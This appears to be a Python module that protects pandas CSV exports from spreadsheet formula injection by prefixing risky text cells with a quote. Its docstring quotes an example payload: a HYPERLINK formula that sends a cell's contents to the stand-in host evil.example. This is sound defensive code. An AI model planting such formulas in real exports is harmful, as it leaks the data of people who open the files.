"""Safe CSV exports: every per-record table leaves the app or the CLI through :func:`safe_csv`.

A CSV holds the uploaded data's own strings (category values, column names). Opened in a
spreadsheet, a cell such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` or
``@SUM(...)`` is run as a formula on the reviewer's machine (CSV or formula injection,
CWE-1236). Following OWASP's CSV-injection guidance (and ASVS 5.0, requirement 1.2.10),
every text cell that begins with a character a spreadsheet reads as the start of a
formula gets a leading single quote: the spreadsheet then shows the text as typed.

Only text is touched. A numeric column stays numeric (``-0.5`` is a number, not a
formula), and so do numbers, booleans and missing values inside an ``object`` column.
The price of the quote is that a value such as ``-x`` comes back as ``'-x`` when the file
is read again; the CLI's Parquet output keeps every value exactly.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "neutralise_formulas", "safe_csv"]

# OWASP: = + - @ tab and carriage return; ASVS 1.2.10 adds the null character
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text that a spreadsheet would read as a
    formula; anything else (numbers, missing values, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _neutralise_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return pd.MultiIndex.from_tuples(
            [tuple(neutralise_cell(part) for part in key) for key in labels],
            names=[neutralise_cell(n) for n in labels.names],
        )
    return pd.Index(
        [neutralise_cell(v) for v in labels],
        name=neutralise_cell(labels.name),
        dtype=object if _is_text(labels) else None,
    )


def _is_text(values: pd.Series | pd.Index) -> bool:
    """Could this column hold text? (object, string and categorical columns can; numeric,
    boolean and datetime ones cannot, so they are never rewritten)."""
    dtype = values.dtype
    return not (
        pd.api.types.is_numeric_dtype(dtype)
        or pd.api.types.is_bool_dtype(dtype)
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
    )


def neutralise_formulas(frame: pd.DataFrame, *, index: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names (and, with ``index``, index
    labels) cannot start a spreadsheet formula; numeric columns are left as they are."""
    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if _is_text(column):
            # categories become plain objects first: quoting "=a" must not collide with an
            # existing category "'=a" (rename_categories refuses duplicates)
            out.isetitem(i, column.astype(object).map(neutralise_cell))
    out.columns = _neutralise_labels(out.columns)
    if index:
        out.index = _neutralise_labels(out.index)
    return out


def safe_csv(frame: pd.DataFrame, *, index: bool = False) -> str:
    """``frame`` as CSV text that is safe to open in a spreadsheet.

    Every text cell, column name and (with ``index``) index label that begins with ``=``,
    ``+``, ``-``, ``@``, a tab, a carriage return or a null character gets a leading
    single quote, so that Excel, LibreOffice or Google Sheets show it as text instead of
    running it as a formula (OWASP CSV injection; ASVS 1.2.10). Numbers, including
    negative ones in numeric columns, stay numbers. Use it for every CSV the app or the
    command line hands to a user: the tables hold strings from the uploaded data.

    Lines end in CRLF (RFC 4180); write the text to a file with ``newline=""``.

    Parameters
    ----------
    frame
        The table to export.
    index
        Write the index as the first column (as :meth:`pandas.DataFrame.to_csv` does).
    """
    # RFC 4180 line ends: with "\r\n" as the terminator the csv writer also quotes a cell
    # holding a lone "\r", which a "\n"-terminated file leaves bare (a spreadsheet then
    # breaks the row there)
    return neutralise_formulas(frame, index=index).to_csv(index=index, lineterminator="\r\n")
